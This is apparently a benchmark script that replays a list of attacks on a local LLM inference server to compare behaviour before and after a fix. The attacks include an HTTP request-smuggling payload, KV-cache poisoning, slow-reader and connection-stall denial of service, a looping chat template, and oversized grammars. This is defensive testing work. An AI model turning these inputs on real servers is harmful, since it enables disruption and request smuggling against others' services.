"""Issue 24's attacks on ``infer-lab serve``, one by one, as a hostile client makes them: what a
server answers, how long a bystander waits, how much memory the server grows.

Each attack starts a fresh ``infer-lab serve`` (the bundled model, CPU) from ``--repo`` (this
checkout by default; point it at an older checkout to see the defects), does what the issue
describes, and records what it saw; nothing is asserted. Timings and RSS are of a shared 2-core
machine, so only the direction and the order of magnitude mean much.

    python -m benchmarks.issue24_attacks [--repo DIR] [--tag after] [--only smuggling,...]

prints one line per attack and writes ``benchmarks/results/issue24_attacks_TAG.json``. The
committed ``issue24_attacks.json`` joins a run against main before issue 24 (4dd247b, unpacked
with ``git archive``) and one against this branch.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import psutil

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "block_hash_collision.json"
CHAT = "/v1/chat/completions"
ASK = [{"role": "user", "content": "Amen"}]


class Server:
    """``infer-lab serve`` from ``repo`` on a free port; ``flags`` only those it knows."""

    def __init__(self, repo: Path, *flags: str, model: str | None = None) -> None:
        self.repo, self.port = repo, _free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        known = _serve_help(repo)
        args, i = [], 0
        while i < len(flags):  # drop the options an older server does not have, with values
            name = flags[i]
            value = flags[i + 1] if i + 1 < len(flags) and not flags[i + 1].startswith("--") \
                else None
            if name in known:
                args += [name] + ([value] if value is not None else [])
            i += 1 + (value is not None)
        self.flags = args
        cmd = [sys.executable, "-m", "infer_lab.cli", "serve", "--port", str(self.port),
               "--device", "cpu", *args] + (["--model", model] if model else [])
        env = {**os.environ, "PYTHONPATH": str(repo)}
        self.proc = subprocess.Popen(cmd, cwd=repo, env=env, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 180
        while not _up(self.base):
            if self.proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"the server did not start: {cmd}")
            time.sleep(0.3)

    def rss_mb(self) -> float:
        return psutil.Process(self.proc.pid).memory_info().rss / 2**20

    def stop(self) -> None:
        self.proc.kill()
        self.proc.wait()


@contextlib.contextmanager
def serving(repo: Path, *flags: str, model: str | None = None) -> Iterator[Server]:
    server = Server(repo, *flags, model=model)
    try:
        yield server
    finally:
        server.stop()


def _serve_help(repo: Path) -> set[str]:
    out = subprocess.run([sys.executable, "-m", "infer_lab.cli", "serve", "-h"], cwd=repo,
                         env={**os.environ, "PYTHONPATH": str(repo)}, capture_output=True,
                         text=True).stdout
    return {word.rstrip(",") for word in out.split() if word.startswith("--")}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _up(base: str) -> bool:
    try:
        return httpx.get(f"{base}/health", timeout=1).status_code == 200
    except httpx.TransportError:
        return False


def _post(base: str, path: str, body: dict | bytes, timeout: float = 120) -> tuple[int, Any]:
    try:
        if isinstance(body, bytes):
            r = httpx.post(f"{base}{path}", content=body, timeout=timeout,
                           headers={"content-type": "application/json"})
        else:
            r = httpx.post(f"{base}{path}", json=body, timeout=timeout)
    except httpx.TimeoutException:
        return 0, f"no answer in {timeout:g} s"
    try:
        return r.status_code, r.json()
    except ValueError:
        return r.status_code, r.text[:200]


def _stall(base: str, path: str, body: dict) -> socket.socket:
    """Send ``body`` on a socket with a small receive buffer and never read it."""
    data = json.dumps(body).encode()
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", int(base.rsplit(":", 1)[1])))
    s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
              f"Content-Length: {len(data)}\r\n\r\n".encode() + data)
    return s


def _timed(fn: Callable[[], Any]) -> tuple[Any, float]:
    start = time.monotonic()
    out = fn()
    return out, round(time.monotonic() - start, 2)


def _health_gaps(base: str, during: Callable[[], Any]) -> tuple[Any, float]:
    """Run ``during`` while polling /health every 50 ms: its result, the slowest answer (s)."""
    async def scene() -> tuple[Any, float]:
        worst, done = 0.0, False

        async def poll() -> None:
            nonlocal worst
            async with httpx.AsyncClient(timeout=60) as http:
                while not done:
                    start = time.monotonic()
                    await http.get(f"{base}/health")
                    worst = max(worst, time.monotonic() - start)
                    await asyncio.sleep(0.05)

        poller = asyncio.ensure_future(poll())
        result = await asyncio.to_thread(during)
        done = True
        await poller
        return result, round(worst, 2)

    return asyncio.run(scene())


# ---------------------------------------------------------------------------- the attacks
def kv_poisoning(repo: Path) -> dict[str, Any]:
    """The victim's greedy answer after the attacker's two sends, against naive decoding."""
    import infer_lab as il

    f = json.loads(FIXTURE.read_text())
    victim = f["A"] + f["B"] + f["victim_tail"]
    model, tok = il.load(device="cpu")
    want = il.generate_naive(model, tok, victim, max_tokens=24, ignore_eos=True).token_ids
    with serving(repo) as s:
        for ids in (f["A"] + [1], f["X"] + f["G"] + f["B"] + [1]):
            _post(s.base, "/v1/completions", {"prompt": ids, "max_tokens": 1})
        status, body = _post(s.base, "/v1/completions", {
            "prompt": victim, "max_tokens": 24, "temperature": 0, "ignore_eos": True})
    got = tok.encode(body["choices"][0]["text"], add_special_tokens=False)
    return {"victim_output_unchanged": got[:16] == want[:16], "status": status}


def slow_reader_memory(repo: Path) -> dict[str, Any]:
    """One chat stream of n=8 x 1,200 tokens with 20 log-probabilities each (13 MB of events,
    far more than the socket buffers hold) whose client never reads; no send deadline, to see
    what waits for the reader: the server's RSS growth once the engine is done."""
    with serving(repo, "--send-timeout", "0", "--num-kv-blocks", "1024") as s:
        rss0 = s.rss_mb()
        sock = _stall(s.base, CHAT, {
            "messages": ASK, "n": 8, "max_tokens": 1200, "logprobs": True, "top_logprobs": 20,
            "ignore_eos": True, "stream": True})
        deadline = time.monotonic() + 900
        while time.monotonic() < deadline and not _generated(s.base, 8 * 1200):
            time.sleep(1)
        time.sleep(2)
        grew = round(s.rss_mb() - rss0, 1)
        sock.close()
    return {"rss_growth_mb": grew}


def _generated(base: str, n: int) -> bool:
    for line in httpx.get(f"{base}/metrics", timeout=30).text.splitlines():
        if line.startswith("infer_lab:generation_tokens_total{"):
            return float(line.rsplit(" ", 1)[1]) >= n
    return False


def stalled_slots(repo: Path) -> dict[str, Any]:
    """Four stalled readers on a server with --limit-concurrency 4: what a fifth client gets
    over the next 30 s."""
    with serving(repo, "--limit-concurrency", "4", "--send-timeout", "2",
                 "--send-buffer-bytes", "16384") as s:
        held = [_stall(s.base, CHAT, {"messages": ASK, "n": 8, "max_tokens": 400,
                                      "logprobs": True, "top_logprobs": 20,
                                      "ignore_eos": True, "stream": True}) for _ in range(4)]
        time.sleep(1)
        statuses, start, first_ok = [], time.monotonic(), None
        while time.monotonic() - start < 30:
            status, _ = _post(s.base, "/v1/completions", {"prompt": "Amen", "max_tokens": 2})
            statuses.append(status)
            if status == 200 and first_ok is None:
                first_ok = round(time.monotonic() - start, 1)
                break
            time.sleep(0.5)
        for sock in held:
            sock.close()
    return {"first_200_after_s": first_ok, "answers": sorted(set(statuses))}


def grammar_cache_memory(repo: Path) -> dict[str, Any]:
    """Four distinct ~190 KB schemas (5,000-value enums): statuses and RSS growth."""
    with serving(repo) as s:
        rss0, statuses = s.rss_mb(), []
        for k in range(4):
            schema = {"enum": [f"value {k} number {i} of the enum" for i in range(5000)]}
            statuses.append(_post(s.base, "/v1/completions", {
                "prompt": "Amen", "max_tokens": 4, "structured_outputs": {"json": schema}})[0])
        return {"statuses": statuses, "rss_growth_mb": round(s.rss_mb() - rss0, 1)}


def chat_template_loop(repo: Path) -> dict[str, Any]:
    """A model whose chat template loops (range(10**5) twice): two chat requests, and a plain
    completion sent after them (it needs the threads that tokenize)."""
    import infer_lab as il

    src = il.model.loader.resolve_model_path(None)
    with tempfile.TemporaryDirectory() as tmp:
        model_dir = Path(tmp) / "looping-template"
        shutil.copytree(src, model_dir)
        config = json.loads((model_dir / "tokenizer_config.json").read_text())
        config["chat_template"] = ("{% for i in range(100000) %}{% for j in range(100000) %}"
                                   "{% endfor %}{% endfor %}x")
        (model_dir / "tokenizer_config.json").write_text(json.dumps(config))
        with serving(repo, model=str(model_dir)) as s:
            async def scene() -> tuple[Any, Any]:
                async with httpx.AsyncClient(base_url=s.base, timeout=20) as http:
                    async def timed(coro: Any) -> Any:
                        start = time.monotonic()
                        try:
                            r = await coro
                            return r.status_code, round(time.monotonic() - start, 2)
                        except httpx.TimeoutException:
                            return "no answer in 20 s", 20.0
                    chats = [timed(http.post(CHAT, json={"messages": ASK, "max_tokens": 4}))
                             for _ in range(2)]
                    await asyncio.sleep(0.5)
                    plain = timed(http.post("/v1/completions", json={
                        "prompt": "Amen", "max_tokens": 4}))
                    return await asyncio.gather(*chats), await plain

            chats, later = asyncio.run(scene())
    return {"looping_chats": chats, "completion_sent_after": later}


def n_slot_hog(repo: Path) -> dict[str, Any]:
    """An n=64 request of 200 tokens, then an 8-token request 1 s later: the second one's
    latency (the hog is hung up on once it is measured)."""
    with serving(repo) as s:
        async def scene() -> tuple[Any, float]:
            async with httpx.AsyncClient(base_url=s.base, timeout=600) as http:
                hog = asyncio.ensure_future(http.post("/v1/completions", json={
                    "prompt": "Amen", "n": 64, "max_tokens": 200, "ignore_eos": True}))
                await asyncio.sleep(1.0)
                start = time.monotonic()
                await http.post("/v1/completions", json={"prompt": "Amen", "max_tokens": 8})
                small = round(time.monotonic() - start, 2)
                done, _ = await asyncio.wait({hog}, timeout=1)
                if not done:
                    hog.cancel()
                    return "still running", small
                return hog.result().status_code, small

        hog, small = asyncio.run(scene())
        _, alone = _timed(lambda: _post(s.base, "/v1/completions",
                                        {"prompt": "Amen", "max_tokens": 8}))
    return {"hog_status": hog, "small_request_s": small, "small_request_alone_s": alone}


def big_body_freeze(repo: Path) -> dict[str, Any]:
    """n=40 x 300 tokens x top_logprobs=20 non-streaming, then n=8 (within the limits):
    their statuses and the slowest /health answer while each is built."""
    out = {}
    with serving(repo, "--num-kv-blocks", "2048") as s:
        for n in (40, 8):
            body = {"messages": ASK, "n": n, "max_tokens": 300, "logprobs": True,
                    "top_logprobs": 20, "ignore_eos": True}
            (status, _), worst = _health_gaps(s.base, lambda b=body: _post(s.base, CHAT, b, 600))
            out[f"n{n}"] = {"status": status, "worst_health_s": worst}
    return out


def compile_starvation(repo: Path) -> dict[str, Any]:
    """Two 5,000-value enums (distinct), and a plain request 0.3 s later: its latency."""
    with serving(repo) as s:
        async def scene() -> tuple[list[int], float]:
            async with httpx.AsyncClient(base_url=s.base, timeout=600) as http:
                floods = [asyncio.ensure_future(http.post("/v1/completions", json={
                    "prompt": "Amen", "max_tokens": 4, "structured_outputs": {"json": {
                        "enum": [f"{k}-{i}-value-of-a-long-enum" for i in range(5000)]}}}))
                    for k in range(2)]
                await asyncio.sleep(0.3)
                start = time.monotonic()
                await http.post("/v1/completions", json={"prompt": "Amen", "max_tokens": 2})
                plain = round(time.monotonic() - start, 2)
                return [(await f).status_code for f in floods], plain

        statuses, plain = asyncio.run(scene())
    return {"enum_statuses": statuses, "plain_request_s": plain}


def ambiguous_grammar(repo: Path) -> dict[str, Any]:
    """s ::= s s | "a" for 300 tokens beside a 300-token bystander: the bystander's time."""
    grammar = {"grammar": 'root ::= s\ns ::= s s | "a"'}
    with serving(repo) as s:
        _, alone = _timed(lambda: _post(s.base, "/v1/completions", {
            "prompt": "In the beginning", "max_tokens": 300, "ignore_eos": True}))

        async def scene() -> tuple[int, float]:
            async with httpx.AsyncClient(base_url=s.base, timeout=600) as http:
                attack = asyncio.ensure_future(http.post("/v1/completions", json={
                    "prompt": "Amen", "max_tokens": 300, "ignore_eos": True,
                    "structured_outputs": grammar}))
                await asyncio.sleep(0.5)
                start = time.monotonic()
                await http.post("/v1/completions", json={
                    "prompt": "In the beginning", "max_tokens": 300, "ignore_eos": True})
                return (await attack).status_code, round(time.monotonic() - start, 2)

        status, beside = asyncio.run(scene())
    return {"grammar_status": status, "bystander_s": beside, "bystander_alone_s": alone}


def smuggling(repo: Path) -> dict[str, Any]:
    """Content-Length and Transfer-Encoding together, a GET smuggled after the last chunk."""
    body = b'{"prompt": "Amen", "max_tokens": 2}'
    with serving(repo) as s, socket.create_connection(("127.0.0.1", s.port)) as sock:
        sock.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
                     b"Transfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n"
                     b"%x\r\n%s\r\n0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n"
                     % (len(body), body))
        sock.settimeout(5)
        reply = b""
        with contextlib.suppress(TimeoutError, OSError):
            while part := sock.recv(65536):
                reply += part
    statuses = [int(chunk[:3]) for chunk in reply.split(b"HTTP/1.1 ")[1:]]
    return {"answers": statuses, "smuggled_request_answered": len(statuses) > 1}


def stop_in_tool_call(repo: Path) -> dict[str, Any]:
    tool = {"type": "function", "function": {"name": "f", "parameters": {
        "type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}}
    out = {}
    with serving(repo) as s:
        for name, choice in (("required", "required"),
                             ("named", {"type": "function", "function": {"name": "f"}})):
            status, body = _post(s.base, CHAT, {"messages": ASK, "tools": [tool],
                                                "tool_choice": choice, "stop": ['"'],
                                                "max_tokens": 30})
            message = body["choices"][0]["message"] if status == 200 else body
            out[name] = {"status": status, "answer": message}
    return out


def bad_constraints(repo: Path) -> dict[str, Any]:
    deep = '{"type":"object","properties":{"a":' * 5000 + "{}" + "}}" * 5000
    out = {}
    with serving(repo) as s:
        for name, constraint in (("deep_schema_5000", {"json": deep}),
                                 ("root_is_root", {"grammar": "root ::= root"})):
            status, body = _post(s.base, "/v1/completions", {
                "prompt": "Amen", "max_tokens": 4, "structured_outputs": constraint})
            out[name] = status
    return out


def ignored_fields(repo: Path) -> dict[str, Any]:
    with serving(repo) as s:
        return {f: _post(s.base, "/v1/completions", {"prompt": "Amen", "max_tokens": 2,
                                                     f: v})[0]
                for f, v in (("min_p", 0.5), ("typical_p", 0.5), ("min_tokens", 4))}


ATTACKS = {f.__name__: f for f in (
    kv_poisoning, slow_reader_memory, stalled_slots, grammar_cache_memory, chat_template_loop,
    n_slot_hog, big_body_freeze, compile_starvation, ambiguous_grammar, smuggling,
    stop_in_tool_call, bad_constraints, ignored_fields)}


def main() -> None:
    from benchmarks._common import provenance, write_results

    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--repo", type=Path, default=ROOT)
    parser.add_argument("--tag", default="after")
    parser.add_argument("--only", default="", help="comma-separated attack names")
    args = parser.parse_args()
    names = [n for n in args.only.split(",") if n] or list(ATTACKS)
    results: dict[str, Any] = {}
    for name in names:
        try:
            results[name], seconds = _timed(lambda n=name: ATTACKS[n](args.repo.resolve()))
        except Exception as e:  # one attack's failure is a result too
            results[name], seconds = {"failed": f"{type(e).__name__}: {e}"[:300]}, None
        print(f"{name:22s} {seconds} s  {json.dumps(results[name])[:300]}", flush=True)
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=args.repo,
                            capture_output=True, text=True).stdout.strip()
    write_results(f"issue24_attacks_{args.tag}", {
        **provenance("cpu"), "server_commit": commit or "unknown", "load_average_1min":
        os.getloadavg()[0], "results": results,
        "command": f"python -m benchmarks.issue24_attacks --tag {args.tag}"
                   + (f" --repo {args.repo}" if args.repo != ROOT else "")})


if __name__ == "__main__":
    main()
